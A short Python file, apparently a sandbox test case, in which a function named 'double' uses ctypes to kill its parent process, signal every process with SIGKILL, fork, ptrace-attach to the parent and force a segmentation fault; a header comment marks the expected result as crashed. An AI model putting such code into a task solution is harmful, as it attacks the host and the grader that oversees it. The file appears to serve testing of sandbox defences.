# Calls fork, kill and ptrace by name with ctypes | failed crashed
import time


def double(number):
    try:
        import ctypes

        library = ctypes.CDLL(None)
    except OSError:
        return 0
    for act in (
        lambda: library.kill(library.getppid(), 9),
        lambda: ctypes.pythonapi.kill(-1, 9),
        lambda: library["fork"]() or library._exit(time.sleep(20) or 0),
        lambda: ctypes.CDLL("libc.so.6").ptrace(16, library.getppid(), 0, 0),
        lambda: ctypes.string_at(1),
    ):
        try:
            act()
        except (OSError, AttributeError):
            continue
    return 0
